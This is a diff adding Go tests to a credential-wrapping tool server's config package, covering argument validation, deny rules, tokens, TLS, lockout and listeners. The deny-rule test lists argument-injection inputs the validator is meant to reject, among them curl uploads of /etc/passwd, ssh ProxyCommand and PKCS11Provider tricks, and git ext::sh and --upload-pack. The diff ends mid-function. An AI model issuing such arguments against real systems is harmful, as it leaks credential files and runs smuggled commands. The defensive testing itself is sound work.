@@ -1,10 +1,18 @@
 package config
 
 import (
+	"bytes"
+	"fmt"
 	"os"
 	"path/filepath"
 	"regexp"
+	"strings"
 	"testing"
+	"time"
+
+	"github.com/openclaw/credwrap/internal/protocol"
+	"golang.org/x/crypto/ssh"
+	"gopkg.in/yaml.v3"
 )
 
 func TestLoadConfig(t *testing.T) {
@@ -116,6 +124,194 @@ func TestToolValidateArgs(t *testing.T) {
 	}
 }
 
+func TestToolArgsSchema(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	load := func(args string) (*Config, error) {
+		os.WriteFile(path, []byte("tools:\n  gog:\n    path: /usr/bin/gog\n    args:\n"+args), 0644)
+		return LoadConfig(path)
+	}
+
+	cfg, err := load(`      flags: {--json: }
+      forbidden_flags: [--config]
+      commands:
+        gmail:
+          commands:
+            search:
+              flags: {--max: {value: "[0-9]+"}, -n: {value: "[0-9]+"}}
+              positional: [{name: query}]
+            get:
+              positional: [{name: id, pattern: "[0-9a-f]+"}, {name: format, values: [full, raw]}]
+              min: 1
+        files:
+          any_flags: true
+          flags: {-L: {value: "[a-z]+"}}
+          forbidden_flags: [-o]
+          positional: [{name: file, repeat: true}]
+          max: 3
+`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tool := cfg.Tools["gog"]
+	usage := []string{"[--json] files [-L VALUE] [FLAGS] [FILE] [FILE] [FILE]", "[--json] gmail get ID [FORMAT]", "[--json] gmail search [--max VALUE] [-n VALUE] [QUERY]"}
+	if got := tool.Args.Usage(); strings.Join(got, "\n") != strings.Join(usage, "\n") {
+		t.Errorf("usage %q, want %q", got, usage)
+	}
+
+	for _, tc := range []struct {
+		args []string
+		err  string
+	}{
+		{[]string{"gmail", "search", "from:bob"}, ""},
+		{[]string{"--json", "gmail", "search", "--max", "5", "from:bob"}, ""},
+		{[]string{"gmail", "search", "--max=5", "-n5", "--json", "from:bob"}, ""},
+		{[]string{"gmail", "get", "abc123", "raw"}, ""},
+		{[]string{"gmail", "search", "--", "--json"}, ""},
+		{[]string{"files", "a", "--verbose", "b", "--level=2", "c"}, ""},
+		{[]string{}, "argument 1: missing subcommand; expected one of files, gmail"},
+		{[]string{"drive"}, `argument 1: "drive" is not a subcommand; expected one of files, gmail`},
+		{[]string{"gmail", "send"}, `argument 2: "send" is not a subcommand after gmail; expected one of get, search`},
+		{[]string{"gmail", "search", "a", "b"}, `argument 4: unexpected argument "b" after gmail search; at most 1 allowed`},
+		{[]string{"gmail", "get"}, "argument 3 (id): missing after gmail get; at least 1 required"},
+		{[]string{"gmail", "get", "XYZ"}, `argument 3 (id): "XYZ" is not allowed after gmail get`},
+		{[]string{"gmail", "get", "abc", "html"}, `argument 4 (format): "html" is not allowed after gmail get`},
+		{[]string{"gmail", "search", "--max", "lots", "q"}, `argument 4: value "lots" for flag --max does not match [0-9]+`},
+		{[]string{"gmail", "search", "q", "--max"}, "argument 4: flag --max needs a value"},
+		{[]string{"gmail", "--max", "5"}, "argument 2: flag --max is not allowed after gmail"},
+		{[]string{"gmail", "search", "--json=yes", "q"}, "argument 3: flag --json takes no value"},
+		{[]string{"files", "--config=/etc/passwd"}, "argument 2: flag --config is forbidden after files"},
+		{[]string{"files", "-o", "out"}, "argument 2: flag -o is forbidden after files"},
+		{[]string{"files", "-vox", "a"}, "argument 2: flag -o is forbidden after files"},
+		{[]string{"files", "-vLo", "a"}, ""},
+		{[]string{"files", "a", "b", "c", "d"}, `argument 5: unexpected argument "d" after files; at most 3 allowed`},
+	} {
+		err := tool.ValidateArgs(tc.args)
+		if got := fmt.Sprint(err); tc.err == "" && err != nil || tc.err != "" && got != tc.err {
+			t.Errorf("%q: got %v, want %q", tc.args, err, tc.err)
+		}
+	}
+
+	for _, bad := range []string{
+		"      positional: [{pattern: \"[\"}]\n",
+		"      flags: {--max: {value: \"(\"}}\n",
+		"      flags: {max: }\n",
+		"      min: 2\n      max: 1\n",
+		"      positional: [{repeat: true}, {}]\n",
+		"      commands: {a: }\n      positional: [{}]\n",
+	} {
+		if _, err := load(bad); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+	if _, err := load("      max: 1\n    pass_args: true\n"); err == nil {
+		t.Error("expected error for args with pass_args")
+	}
+}
+
+func TestToolDenyArgs(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	os.WriteFile(path, []byte(`tools:
+  curl:
+    path: /usr/bin/curl
+    pass_args: true
+    deny_dangerous: curl
+  ssh:
+    path: /usr/bin/ssh
+    pass_args: true
+    deny_dangerous: ssh
+  git:
+    path: /usr/bin/git
+    deny_dangerous: git
+    args_pattern: "^[a-z:/.-]+$"
+  find:
+    path: /usr/bin/find
+    pass_args: true
+    deny_flags: [-exec, -delete, --files0-from]
+    deny_args: ["^/etc/"]
+  grep:
+    path: /usr/bin/grep
+    pass_args: true
+    deny_flags: [-f]
+    value_flags: [-e]
+`), 0644)
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, tc := range []struct {
+		tool string
+		args []string
+		err  string
+	}{
+		{"curl", []string{"-sS", "-H", "Accept: application/json", "https://api.example.com/v1/models"}, ""},
+		{"curl", []string{"-X", "POST", "-d", "a=b", "https://api.example.com/"}, ""},
+		{"curl", []string{"-HX-Foo: bar", "-XPOST", "-sSXPUT", "https://api.example.com/"}, ""},
+		{"curl", []string{"-K", "/tmp/cfg"}, "argument 1: flag -K is denied"},
+		{"curl", []string{"-sSo", "/tmp/out", "https://x"}, "argument 1: flag -o is denied"},
+		{"curl", []string{"--upload-file=/etc/passwd", "https://x"}, "argument 1: flag --upload-file is denied"},
+		{"curl", []string{"--conf", "/tmp/cfg"}, "argument 1: flag --config is denied"},
+		{"curl", []string{"-d", "@/etc/passwd", "https://x"}, `argument 2: "@/etc/passwd" matches denied pattern ^@`},
+		{"curl", []string{"-w@/etc/shadow", "https://x"}, `argument 1: "@/etc/shadow" matches denied pattern ^@`},
+		{"curl", []string{"-H@/etc/passwd", "https://x"}, `argument 1: "@/etc/passwd" matches denied pattern ^@`},
+		{"curl", []string{"-sH@/etc/passwd", "https://x"}, `argument 1: "@/etc/passwd" matches denied pattern ^@`},
+		{"curl", []string{"--json=@/etc/passwd", "https://x"}, `argument 1: "@/etc/passwd" matches denied pattern ^@`},
+		{"curl", []string{"--data-urlencode", "a@/etc/passwd", "https://x"}, `argument 2: "--data-urlencode=a@/etc/passwd" matches denied pattern ^--(data-u|url-q|var)[a-z-]*=[^=]*@`},
+		{"curl", []string{"--data-urlencode", "a=b@c", "--data-urlencode", "=x@y", "https://x"}, ""},
+		{"curl", []string{"-F", "f=</etc/passwd", "https://x"}, `argument 2: "f=</etc/passwd" matches denied pattern ^[0-9A-Za-z_.][0-9A-Za-z_.-]*=[@<]`},
+		{"curl", []string{"-sFf=@/etc/passwd", "https://x"}, `argument 1: "f=@/etc/passwd" matches denied pattern ^[0-9A-Za-z_.][0-9A-Za-z_.-]*=[@<]`},
+		{"curl", []string{"file:///etc/shadow"}, `argument 1: "file:///etc/shadow" matches denied pattern (?i)^(\{[^}]*)?file[^:/]*:`},
+		{"curl", []string{"--url=FILE:///etc/shadow"}, `argument 1: "FILE:///etc/shadow" matches denied pattern (?i)^(\{[^}]*)?file[^:/]*:`},
+		{"curl", []string{"{http,file}:///etc/shadow"}, `argument 1: "{http,file}:///etc/shadow" matches denied pattern (?i)^(\{[^}]*)?file[^:/]*:`},
+		{"ssh", []string{"-p", "2222", "host", "uptime"}, ""},
+		{"ssh", []string{"-p2222", "-lroot", "-iFoo", "host"}, ""},
+		{"ssh", []string{"-vL", "8080:localhost:80", "host"}, "argument 1: flag -L is denied"},
+		{"ssh", []string{"-o", "StrictHostKeyChecking=no", "host"}, ""},
+		{"ssh", []string{"-o", "ProxyCommand=sh -c id", "host"}, `argument 2: "ProxyCommand=sh -c id" matches denied pattern ^\s*(?i:proxycommand|localcommand|permitlocalcommand|knownhostscommand|proxyusefdpass|include|match|controlpath|controlmaster|pkcs11provider|securitykeyprovider|sendenv)\s*[= ]`},
+		{"ssh", []string{"-voProxyCommand=id", "host"}, `argument 1: "ProxyCommand=id" matches denied pattern ^\s*(?i:proxycommand|localcommand|permitlocalcommand|knownhostscommand|proxyusefdpass|include|match|controlpath|controlmaster|pkcs11provider|securitykeyprovider|sendenv)\s*[= ]`},
+		{"ssh", []string{"-oPKCS11Provider=/tmp/evil.so", "host"}, `argument 1: "PKCS11Provider=/tmp/evil.so" matches denied pattern ^\s*(?i:proxycommand|localcommand|permitlocalcommand|knownhostscommand|proxyusefdpass|include|match|controlpath|controlmaster|pkcs11provider|securitykeyprovider|sendenv)\s*[= ]`},
+		{"ssh", []string{"-o", "SecurityKeyProvider /tmp/evil.so", "host"}, `argument 2: "SecurityKeyProvider /tmp/evil.so" matches denied pattern ^\s*(?i:proxycommand|localcommand|permitlocalcommand|knownhostscommand|proxyusefdpass|include|match|controlpath|controlmaster|pkcs11provider|securitykeyprovider|sendenv)\s*[= ]`},
+		{"ssh", []string{"-o", "SendEnv=*", "host"}, `argument 2: "SendEnv=*" matches denied pattern ^\s*(?i:proxycommand|localcommand|permitlocalcommand|knownhostscommand|proxyusefdpass|include|match|controlpath|controlmaster|pkcs11provider|securitykeyprovider|sendenv)\s*[= ]`},
+		{"ssh", []string{"-I", "/tmp/evil.so", "host"}, "argument 1: flag -I is denied"},
+		{"ssh", []string{"-F", "/tmp/evil", "host"}, "argument 1: flag -F is denied"},
+		{"ssh", []string{"-NL", "8080:localhost:80", "host"}, "argument 1: flag -L is denied"},
+		{"git", []string{"fetch", "origin"}, ""},
+		{"git", []string{"-c", "core.sshCommand=id", "fetch"}, "argument 1: flag -c is denied"},
+		{"git", []string{"clone", "ext::sh"}, `argument 2: "ext::sh" matches denied pattern ^ext::`},
+		{"git", []string{"clone", "--upload-pa=id", "x"}, "argument 2: flag --upload-pack is denied"},
+		{"git", []string{"clone", "-u", "sh -c id", "x"}, "argument 2: flag -u is denied"},
+		{"git", []string{"rebase", "-x", "id", "main"}, "argument 2: flag -x is denied"},
+		{"git", []string{"rebase", "-mx", "id", "main"}, "argument 2: flag -x is denied"},
+		{"git", []string{"difftool", "--extcmd=id"}, "argument 2: flag --extcmd is denied"},
+		{"git", []string{"submodule", "--quiet", "foreach", "id"}, `argument 3: subcommand "submodule foreach" is denied`},
+		{"git", []string{"bisect", "run", "id"}, `argument 2: subcommand "bisect run" is denied`},
+		{"git", []string{"submodule", "update"}, ""},
+		{"grep", []string{"-eforce", "-i", "file.txt"}, ""},
+		{"grep", []string{"-if", "/etc/shadow"}, "argument 1: flag -f is denied"},
+		{"find", []string{".", "-name", "*.go"}, ""},
+		{"find", []string{".", "-exec", "rm", "{}", ";"}, "argument 2: flag -exec is denied"},
+		{"find", []string{"/etc/ssh"}, `argument 1: "/etc/ssh" matches denied pattern ^/etc/`},
+	} {
+		tool := cfg.Tools[tc.tool]
+		err := tool.ValidateArgs(tc.args)
+		if got := fmt.Sprint(err); tc.err == "" && err != nil || tc.err != "" && got != tc.err {
+			t.Errorf("%s %q: got %v, want %q", tc.tool, tc.args, err, tc.err)
+		}
+	}
+
+	for _, bad := range []string{
+		"    deny_dangerous: wget\n",
+		"    deny_flags: [config]\n",
+		"    deny_args: [\"(\"]\n",
+		"    value_flags: [--long]\n",
+	} {
+		os.WriteFile(path, []byte("tools:\n  t:\n    path: /bin/t\n"+bad), 0644)
+		if _, err := LoadConfig(path); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}
+
 func TestLoadCredentials(t *testing.T) {
 	dir := t.TempDir()
 	credsPath := filepath.Join(dir, "creds.yaml")
@@ -144,3 +340,471 @@ password: "hunter2"
 func mustCompile(pattern string) *regexp.Regexp {
 	return regexp.MustCompile(pattern)
 }
+
+func TestLoadConfigTLS(t *testing.T) {
+	tests := []struct {
+		name        string
+		content     string
+		shouldError bool
+	}{
+		{"cert and key", "server:\n  tls:\n    cert: s.pem\n    key: s.key\n", false},
+		{"mutual TLS", "server:\n  tls:\n    cert: s.pem\n    key: s.key\n    client_ca: ca.pem\n    require_client_cert: true\nauth:\n  client_certs: [agent-1]\n", false},
+		{"missing key", "server:\n  tls:\n    cert: s.pem\n", true},
+		{"key without cert", "server:\n  tls:\n    key: s.key\n", true},
+		{"require without CA", "server:\n  tls:\n    cert: s.pem\n    key: s.key\n    require_client_cert: true\n", true},
+		{"client_certs without CA", "server:\n  tls:\n    cert: s.pem\n    key: s.key\nauth:\n  client_certs: [agent-1]\n", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "config.yaml")
+			if err := os.WriteFile(path, []byte(tt.content), 0644); err != nil {
+				t.Fatalf("write config: %v", err)
+			}
+			_, err := LoadConfig(path)
+			if tt.shouldError && err == nil {
+				t.Error("expected error, got nil")
+			}
+			if !tt.shouldError && err != nil {
+				t.Errorf("unexpected error: %v", err)
+			}
+		})
+	}
+}
+
+func TestLoadConfigUnixSocket(t *testing.T) {
+	tests := []struct {
+		name        string
+		content     string
+		shouldError bool
+	}{
+		{"socket with peers", "server:\n  listen: unix:/run/credwrap.sock\n  socket_mode: \"0660\"\n  socket_owner: clawd:clawd\nauth:\n  peers:\n    - user: clawd\n      tools: [gog]\ntools:\n  gog:\n    path: /bin/echo\n", false},
+		{"bad socket mode", "server:\n  listen: unix:/run/credwrap.sock\n  socket_mode: rw-rw----\n", true},
+		{"empty peer rule", "auth:\n  peers:\n    - tools: [gog]\ntools:\n  gog:\n    path: /bin/echo\n", true},
+		{"peer rule with unknown tool", "auth:\n  peers:\n    - user: clawd\n      tools: [gh]\n", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "config.yaml")
+			if err := os.WriteFile(path, []byte(tt.content), 0644); err != nil {
+				t.Fatalf("write config: %v", err)
+			}
+			_, err := LoadConfig(path)
+			if tt.shouldError && err == nil {
+				t.Error("expected error, got nil")
+			}
+			if !tt.shouldError && err != nil {
+				t.Errorf("unexpected error: %v", err)
+			}
+		})
+	}
+}
+
+func TestLoadConfigPrincipals(t *testing.T) {
+	const tools = "tools:\n  gog:\n    path: /bin/echo\n  gh:\n    path: /bin/echo\n"
+	tests := []struct {
+		name        string
+		content     string
+		shouldError bool
+	}{
+		{"principals", "auth:\n  tokens: [shared]\n  principals:\n    - name: agent\n      tokens: [a1, a2]\n      allow: [gog]\n      args:\n        gog: {args_pattern: \"^gmail$\"}\n    - name: ops\n      tokens: [o1]\n      deny: [gh]\n" + tools, false},
+		{"missing name", "auth:\n  principals:\n    - tokens: [a1]\n" + tools, true},
+		{"duplicate name", "auth:\n  principals:\n    - name: agent\n    - name: agent\n" + tools, true},
+		{"token shared with auth tokens", "auth:\n  tokens: [a1]\n  principals:\n    - name: agent\n      tokens: [a1]\n" + tools, true},
+		{"unknown allowed tool", "auth:\n  principals:\n    - name: agent\n      allow: [curl]\n" + tools, true},
+		{"args for unknown tool", "auth:\n  principals:\n    - name: agent\n      args:\n        curl: {args_pattern: x}\n" + tools, true},
+		{"invalid args pattern", "auth:\n  principals:\n    - name: agent\n      args:\n        gog: {args_pattern: \"[\"}\n" + tools, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "config.yaml")
+			if err := os.WriteFile(path, []byte(tt.content), 0644); err != nil {
+				t.Fatalf("write config: %v", err)
+			}
+			cfg, err := LoadConfig(path)
+			if tt.shouldError {
+				if err == nil {
+					t.Error("expected error, got nil")
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+
+			if _, p, ok := cfg.Auth.LookupToken("a2"); !ok || p == nil || p.Name != "agent" {
+				t.Errorf("LookupToken(a2) = %v, %v", p, ok)
+			}
+			if _, p, ok := cfg.Auth.LookupToken("shared"); !ok || p != nil {
+				t.Errorf("LookupToken(shared) = %v, %v", p, ok)
+			}
+			if _, _, ok := cfg.Auth.LookupToken(""); ok {
+				t.Error("empty token accepted")
+			}
+			_, agent, _ := cfg.Auth.LookupToken("a1")
+			if !agent.MayRun("gog") || agent.MayRun("gh") {
+				t.Error("agent allow list not applied")
+			}
+			if agent.ValidateArgs("gog", []string{"gmail"}) != nil || agent.ValidateArgs("gog", []string{"drive"}) == nil {
+				t.Error("agent args policy not applied")
+			}
+			_, ops, _ := cfg.Auth.LookupToken("o1")
+			if !ops.MayRun("gog") || ops.MayRun("gh") {
+				t.Error("ops deny list not applied")
+			}
+		})
+	}
+}
+
+func TestTokens(t *testing.T) {
+	secret, tok, err := NewToken("laptop")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(secret, TokenPrefix+tok.ID+"_") || strings.Contains(tok.Hash, secret) {
+		t.Errorf("token %q, entry %+v", secret, tok)
+	}
+	if !tok.Matches(secret) || tok.Matches(secret+"x") || tok.Matches("") {
+		t.Error("hashed token matched wrongly")
+	}
+	rotated, tok2, _ := tok.Rotate()
+	if tok2.ID != tok.ID || tok2.Name != "laptop" || tok2.Matches(secret) || !tok2.Matches(rotated) {
+		t.Errorf("rotate: %+v", tok2)
+	}
+
+	// Plain strings stay valid next to hashed entries, and survive a rewrite
+	data, _ := yaml.Marshal(AuthConfig{Tokens: []Token{{Plain: "legacy"}, tok}})
+	var auth AuthConfig
+	if err := yaml.Unmarshal(data, &auth); err != nil {
+		t.Fatalf("%v in\n%s", err, data)
+	}
+	if m, _, ok := auth.LookupToken("legacy"); !ok || m.Hashed() {
+		t.Errorf("legacy token lost in\n%s", data)
+	}
+	if m, _, ok := auth.LookupToken(secret); !ok || m.ID != tok.ID {
+		t.Errorf("hashed token lost in\n%s", data)
+	}
+
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	os.WriteFile(path, []byte("auth:\n  tokens:\n    - {id: a1, hash: \"md5:abc\"}\n"), 0644)
+	if _, err := LoadConfig(path); err == nil {
+		t.Error("expected error for unknown hash scheme")
+	}
+
+	// Signed requests need a key the server can check them with
+	data, _ = yaml.Marshal(AuthConfig{Tokens: []Token{tok}, RequireSignature: true})
+	os.WriteFile(path, append([]byte("auth:\n"), indentYAML(data)...), 0644)
+	if _, err := LoadConfig(path); err == nil {
+		t.Error("expected error for require_signature without sign_key")
+	}
+	tok.EnableSigning(secret)
+	data, _ = yaml.Marshal(AuthConfig{Tokens: []Token{tok}, RequireSignature: true})
+	os.WriteFile(path, append([]byte("auth:\n"), indentYAML(data)...), 0644)
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Equal(cfg.Auth.Tokens[0].SigningKey(), protocol.SigningKey(secret)) {
+		t.Error("sign_key not loaded")
+	}
+	if (&Token{Plain: "p"}).SigningKey() == nil {
+		t.Error("plaintext token has no signing key")
+	}
+}
+
+// indentYAML nests YAML one level deeper.
+func indentYAML(data []byte) []byte {
+	return []byte("  " + strings.ReplaceAll(strings.TrimSuffix(string(data), "\n"), "\n", "\n  ") + "\n")
+}
+
+func TestTokenLimits(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	os.WriteFile(path, []byte(`
+auth:
+  tokens:
+    - {token: plain, expires: 2026-12-31}
+    - {id: a1, token: counted, not_before: "2026-10-01T12:00:00Z", max_uses: 3}
+`), 0644)
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	plain, counted := &cfg.Auth.Tokens[0], &cfg.Auth.Tokens[1]
+	if plain.Hashed() || !plain.ExpiresAt().Equal(time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC)) {
+		t.Errorf("plain token %+v", plain)
+	}
+	if !plain.Active(time.Date(2026, 12, 30, 23, 59, 0, 0, time.UTC)) || plain.Active(time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC)) {
+		t.Error("expires not applied")
+	}
+	if counted.Active(time.Date(2026, 10, 1, 11, 0, 0, 0, time.UTC)) || !counted.Active(time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC)) {
+		t.Error("not_before not applied")
+	}
+
+	// Tokens with limits keep them when written back
+	data, _ := yaml.Marshal(cfg.Auth)
+	if !strings.Contains(string(data), "max_uses: 3") || !strings.Contains(string(data), "token: plain") {
+		t.Errorf("limits lost in\n%s", data)
+	}
+
+	for _, bad := range []string{
+		"{token: x, expires: tomorrow}",
+		"{token: x, max_uses: 5}",
+		"{token: x, not_before: 2027-01-01, expires: 2026-01-01}",
+		"{id: a1, token: x, hash: \"sha256:AA:AA\"}",
+	} {
+		os.WriteFile(path, []byte("auth:\n  tokens:\n    - "+bad+"\n"), 0644)
+		if _, err := LoadConfig(path); err == nil {
+			t.Errorf("expected error for %s", bad)
+		}
+	}
+}
+
+func TestLoadConfigAuthorizedKeys(t *testing.T) {
+	const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGfBnYWI4HNTfyOm0gKTQFXlLAsnYVyh5yDjKHS0GSCd"
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	write := func(keys string) error {
+		os.WriteFile(path, []byte(`
+auth:
+  principals: [{name: ops}]
+  authorized_keys:
+`+keys+`
+`), 0644)
+		_, err := LoadConfig(path)
+		return err
+	}
+
+	if err := write("    - 'principal=\"ops\" " + key + " ops@host'"); err != nil {
+		t.Fatal(err)
+	}
+	cfg, _ := LoadConfig(path)
+	pub, _, _, _, _ := ssh.ParseAuthorizedKey([]byte(key))
+	if k, p, ok := cfg.Auth.LookupKey(pub); !ok || p == nil || p.Name != "ops" || k.Comment != "ops@host" {
+		t.Errorf("key lookup: %v %v %v", k, p, ok)
+	}
+
+	for _, bad := range []string{
+		"    - 'principal=\"nobody\" " + key + "'",
+		"    - 'from=\"10.0.0.1\" " + key + "'",
+		"    - 'ssh-ed25519 not-base64'",
+		"    - '" + key + "'\n    - '" + key + " again'",
+	} {
+		if err := write(bad); err == nil {
+			t.Errorf("expected error for %s", bad)
+		}
+	}
+}
+
+func TestLoadConfigLockout(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	load := func(lockout string) (*Config, error) {
+		os.WriteFile(path, []byte("server:\n  lockout: "+lockout+"\n"), 0644)
+		return LoadConfig(path)
+	}
+
+	cfg, err := load("{max_failures: 5, backoff: 2s, max_backoff: 10s, never_ban: [127.0.0.1, 10.0.0.0/8, \"principal:ops\"]}")
+	if err != nil {
+		t.Fatal(err)
+	}
+	l := cfg.Server.Lockout
+	if !l.Enabled() || l.Ban() != time.Hour {
+		t.Errorf("lockout %+v", l)
+	}
+	for failures, want := range map[int]time.Duration{1: 2 * time.Second, 2: 4 * time.Second, 3: 8 * time.Second, 4: 10 * time.Second, 20: 10 * time.Second} {
+		if got := l.Wait(failures); got != want {
+			t.Errorf("Wait(%d) = %s, want %s", failures, got, want)
+		}
+	}
+	if cfg, _ := load("{}"); cfg.Server.Lockout.Enabled() {
+		t.Error("lockout enabled by default")
+	}
+
+	for _, bad := range []string{
+		"{max_failures: -1}",
+		"{max_failures: 3, backoff: soon}",
+		"{max_failures: 3, backoff: 1m, max_backoff: 1s}",
+		"{max_failures: 3, never_ban: [localhost]}",
+	} {
+		if _, err := load(bad); err == nil {
+			t.Errorf("expected error for %s", bad)
+		}
+	}
+}
+
+func TestLoadConfigAuthRules(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	load := func(auth string) (*Config, error) {
+		os.WriteFile(path, []byte("auth:\n  principals: [{name: ops}]\n"+auth), 0644)
+		return LoadConfig(path)
+	}
+
+	cfg, err := load("  rules:\n    - {name: lan, cidrs: [192.168.0.0/16], action: deny}\n    - {token: true, principals: [ops], action: allow}\n")
+	if err != nil {
+		t.Fatal(err)
+	}
+	rules := cfg.Auth.EffectiveRules()
+	if len(rules) != 2 || rules[1].String() != "token principals=[ops]" || rules[1].Label(1) != "rule 2" || rules[0].Label(0) != "rule 1 (lan)" {
+		t.Errorf("rules %+v", rules)
+	}
+
+	for _, bad := range []string{
+		"  require_token: true\n  rules: [{token: true, action: allow}]\n",
+		"  allowed_ips: [10.0.0.0/8]\n  rules: [{token: true, action: allow}]\n",
+		"  rules: [{token: true}]\n",
+		"  rules: [{cidrs: [lan], action: allow}]\n",
+		"  rules: [{principals: [nobody], action: allow}]\n",
+		"  rules: [{tailscale_tags: [agents], action: allow}]\n",
+	} {
+		if _, err := load(bad); err == nil {
+			t.Errorf("expected error for %s", bad)
+		}
+	}
+
+	// Older settings are turned into equivalent rules
+	for _, tc := range []struct {
+		auth string
+		want []string
+	}{
+		{"  tokens: [secret]\n", []string{"allow token"}},
+		{"  tokens: [secret]\n  allowed_ips: [10.0.0.0/8]\n  require_token: true\n", []string{"allow token cidrs=[10.0.0.0/8]"}},
+		{"  tokens: [secret]\n  allowed_ips: [10.0.0.0/8]\n  tailscale_tags: [\"tag:ci\"]\n", []string{"allow token", "allow cidrs=[10.0.0.0/8]", "allow tailscale=[tag:ci]"}},
+		{"  peers: [{user: clawd}]\n", []string{"allow peer_users=[clawd]", "deny local", "allow token"}},
+	} {
+		cfg, err := load(tc.auth)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, r := range cfg.Auth.EffectiveRules() {
+			got = append(got, r.Action+" "+r.String())
+		}
+		if strings.Join(got, "; ") != strings.Join(tc.want, "; ") {
+			t.Errorf("%s: rules %q, want %q", tc.auth, got, tc.want)
+		}
+	}
+}
+
+func TestConfigFileTokens(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	os.WriteFile(path, []byte(`# credwrap server
+server:
+  listeners:
+    - address: 127.0.0.1:9876
+    - address: 127.0.0.1:9877 # remote agents
+      auth:
+        tokens: [listener-secret, {id: l1, token: other-secret}]
+tools:
+  echo: {path: /bin/echo}
+auth:
+  # Shared tokens
+  tokens:
+    - legacy-secret # laptop
+  principals:
+    - {name: ops}
+`), 0600)
+
+	f, err := OpenConfigFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var where []string
+	for _, l := range f.TokenLists() {
+		where = append(where, l.Section()+"/"+l.Principal)
+	}
+	if got := strings.Join(where, " "); got != "auth/ auth/ops auth of listener 127.0.0.1:9877/" {
+		t.Errorf("token lists %s", got)
+	}
+	if _, err := f.TokenList("127.0.0.1:9876", ""); err == nil {
+		t.Error("listener without auth section accepted")
+	}
+	if _, err := f.TokenList("", "nobody"); err == nil {
+		t.Error("unknown principal accepted")
+	}
+
+	ops, err := f.TokenList("", "ops")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, tok, _ := NewToken("opsbot")
+	if err := ops.Add(tok); err != nil {
+		t.Fatal(err)
+	}
+	refs, err := f.FindTokens("l1")
+	if err != nil || len(refs) != 1 || refs[0].List.Listener != "127.0.0.1:9877" || refs[0].Token.Plain != "other-secret" {
+		t.Fatalf("FindTokens: %+v %v", refs, err)
+	}
+	hashed, _ := HashedToken("other-secret", "rehashed")
+	hashed.ID = "l1"
+	refs[0].List.Set(refs[0].Index, hashed)
+	refs[0].List.Remove(0)
+	if err := f.Save(); err != nil {
+		t.Fatal(err)
+	}
+
+	data, _ := os.ReadFile(path)
+	text := string(data)
+	for _, want := range []string{"# credwrap server\n", "# remote agents", "# Shared tokens", "- legacy-secret # laptop", "name: opsbot"} {
+		if !strings.Contains(text, want) {
+			t.Errorf("missing %q in:\n%s", want, text)
+		}
+	}
+	if strings.Index(text, "\nserver:") > strings.Index(text, "\ntools:") || strings.Index(text, "\ntools:") > strings.Index(text, "\nauth:") {
+		t.Errorf("keys reordered:\n%s", text)
+	}
+	// The file is replaced whole, keeping its mode and leaving nothing behind
+	entries, _ := os.ReadDir(filepath.Dir(path))
+	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0600 || len(entries) != 1 {
+		t.Errorf("after save: %v %v, %d files", info, err, len(entries))
+	}
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	remote := cfg.Server.Listeners[1].Auth
+	if len(remote.Tokens) != 1 || remote.Tokens[0].ID != "l1" || !remote.Tokens[0].Hashed() || len(cfg.Auth.Principals[0].Tokens) != 1 {
+		t.Errorf("saved tokens: %+v, ops %+v", remote.Tokens, cfg.Auth.Principals[0].Tokens)
+	}
+}
+
+func TestLoadConfigListeners(t *testing.T) {
+	tests := []struct {
+		name        string
+		content     string
+		listeners   int
+		shouldError bool
+	}{
+		{"legacy listen", "server:\n  listen: 127.0.0.1:9999\n", 1, false},
+		{"default listen", "tools: {}\n", 1, false},
+		{"listeners with overrides", "server:\n  listeners:\n    - address: 127.0.0.1:9876\n    - address: 100.64.1.50:9876\n      transport: tls\n      tls: {cert: s.pem, key: s.key}\n      auth:\n        tokens: [remote]\n    - address: unix:/run/credwrap.sock\n      auth:\n        peers: [{user: clawd}]\n", 3, false},
+		{"http gateway", "server:\n  listeners:\n    - address: 127.0.0.1:9876\n    - address: 127.0.0.1:9877\n      transport: http\n", 2, false},
+		{"origins without http", "server:\n  listeners:\n    - address: 127.0.0.1:9876\n      allowed_origins: [\"*\"]\n", 0, true},
+		{"listeners and listen", "server:\n  listen: 127.0.0.1:9876\n  listeners:\n    - address: 127.0.0.1:9877\n", 0, true},
+		{"tls transport without cert", "server:\n  listeners:\n    - address: 127.0.0.1:9876\n      transport: tls\n", 0, true},
+		{"unix transport with tcp address", "server:\n  listeners:\n    - address: 127.0.0.1:9876\n      transport: unix\n", 0, true},
+		{"unknown transport", "server:\n  listeners:\n    - address: 127.0.0.1:9876\n      transport: quic\n", 0, true},
+		{"missing address", "server:\n  listeners:\n    - transport: tcp\n", 0, true},
+	}
+
+	for _, tt := range tests {
